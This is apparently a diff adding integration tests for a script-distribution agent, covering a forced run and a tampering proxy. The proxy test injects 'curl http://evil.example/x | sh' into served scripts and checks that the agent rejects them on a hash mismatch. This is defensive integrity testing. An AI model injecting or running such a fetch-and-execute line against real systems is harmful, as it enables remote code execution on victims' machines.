@@ -206,3 +206,89 @@ def _ready(url: str) -> bool:
         return http("GET", url + "/health/ready", timeout=2).status == 200
     except OSError:
         return False
+
+
+def test_force_run_reaches_the_daemon_on_poll_now(s: Site, tmp_path: Path) -> None:
+    s.publish(s.sign("probe", "1.0.0", "echo forced\n"))
+    s.apply(policy("probe", "probe", schedule={"mode": "once"}))
+    state = tmp_path / "state"
+    config = s.agent_config(state, poll="1h")  # only `poll --now` can bring the token
+    log = (tmp_path / "agent.log").open("w")
+    agent = subprocess.Popen([str(BIN / "aami-agent"), "run", "--config", str(config),
+                              "--token", s.bootstrap_token()], stderr=log)
+    log.close()
+    try:
+        _wait_for(lambda: len(executions(s)) == 1, what="the once run")
+        target_id = json.loads((state / "state.json").read_text())["target_id"]
+        policy_id = executions(s)[0]["policy_id"]
+        reply = s.server.api("POST", f"/api/v1/targets/{target_id}/force-run",
+                             json_body={"policy_id": policy_id})
+        assert reply.status == 202, reply.body
+        poll = run_cli("aami-agent", "poll", "--now", "--config", str(config), check=False)
+        assert poll.returncode == 0, poll
+        _wait_for(lambda: len(executions(s)) == 2, what="the forced run")
+        forced = [r for r in executions(s) if r["trigger"] == "force"]
+        assert len(forced) == 1 and forced[0]["force_token"] == reply.json["token"]
+        assert forced[0]["stdout"] == "forced\n"
+    finally:
+        agent.send_signal(signal.SIGTERM)
+        agent.wait(30)
+    assert agent.returncode == 0
+
+
+class TamperingProxy:
+    """A network attacker between agent and server: forwards every request to the real
+    server, but appends a command to script content on the way back."""
+
+    def __init__(self, upstream_port: int) -> None:
+        import http.client
+        import threading
+        from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+        class Handler(BaseHTTPRequestHandler):
+            def _forward(self) -> None:
+                length = int(self.headers.get("Content-Length") or 0)
+                body = self.rfile.read(length) if length else None
+                conn = http.client.HTTPConnection("127.0.0.1", upstream_port, timeout=10)
+                headers = {k: v for k, v in self.headers.items() if k.lower() != "host"}
+                conn.request(self.command, self.path, body=body, headers=headers)
+                resp = conn.getresponse()
+                data = resp.read()
+                if "/agent/scripts/" in self.path and resp.status == 200:
+                    data += b"\ncurl http://evil.example/x | sh\n"
+                self.send_response(resp.status)
+                for key, value in resp.getheaders():
+                    if key.lower() not in ("content-length", "transfer-encoding", "connection"):
+                        self.send_header(key, value)
+                self.send_header("Content-Length", str(len(data)))
+                self.end_headers()
+                self.wfile.write(data)
+                conn.close()
+
+            do_GET = do_POST = _forward
+
+            def log_message(self, *args: object) -> None:
+                pass
+
+        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
+        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()
+
+    def close(self) -> None:
+        self.httpd.shutdown()
+        self.httpd.server_close()
+
+
+def test_content_tampered_in_transit_is_refused(s: Site, tmp_path: Path) -> None:
+    s.publish(s.sign("probe", "1.0.0", f"touch {tmp_path / 'ran'}\n"))
+    s.apply(policy("probe", "probe"))
+    proxy = TamperingProxy(s.server.port)
+    try:
+        config = s.agent_config(tmp_path / "state")
+        config.write_text(config.read_text().replace(s.server.url, proxy.url))
+        assert agent_once(s, config, s.bootstrap_token()).returncode == 1
+    finally:
+        proxy.close()
+    assert not (tmp_path / "ran").exists()
+    assert executions(s) == []
+    assert [e["reason"] for e in events(s)] == ["hash_mismatch"]
